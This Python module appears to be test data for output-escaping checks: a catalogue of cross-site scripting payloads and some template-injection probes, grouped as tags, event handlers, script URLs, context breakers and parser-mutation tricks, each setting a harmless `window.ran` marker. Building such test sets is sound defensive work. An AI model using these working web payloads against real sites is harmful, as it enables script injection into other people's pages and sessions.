"""Texts that would run a script on a page that does not escape them: `window.ran` would be set or a dialog opened.

Gathered from the ways in which such pages have been broken: tags in odd spellings, event handlers, addresses that are
scripts, ends of the elements a text stands in, ends of attributes, templates, and mutation while HTML is parsed again.
"""

RUN = "window.ran=1;alert(1)"

TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script\t>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=/static/copy.js?x></script>",
    "<script src=data:text/javascript,window.ran=1></script>",
    f"<script type=module>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)

HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f'<img src="/static/favicon.svg" onload="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>x</b>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'></svg>#x\"/></svg>",
)

ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"\tjava\nscript:{RUN}",
    f"javascript://example.org/%0a{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
    "<base href=//elsewhere.test/>",
    "<form action=javascript:window.ran=1><button autofocus>x</button></form>",
    "<link rel=stylesheet href=//elsewhere.test/x.css>",
)

BREAKERS = (
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</code></pre><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><img src=x onerror={RUN}>",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"`\"'><img src=x onerror={RUN}>",
    "{{7*7}}{% for x in [1] %}{{x}}{% endfor %}{# gone #}${7*7}<%= 7*7 %>#{7*7}",
    "{{config.__class__.__init__.__globals__}}{{[].constructor.constructor('window.ran=1')()}}",
)

MUTATIONS = (
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u02bbimg src=x onerror={RUN}\u02bc \u2028{RUN}\u2029",
    f"\u202e\u2066>tpircs<\u2069\u200b<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"e\u0301\u0338<\u0338script>{RUN}</script>",
)

PAYLOADS = {"tags": TAGS, "handlers": HANDLERS, "addresses": ADDRESSES, "breakers": BREAKERS, "mutations": MUTATIONS}
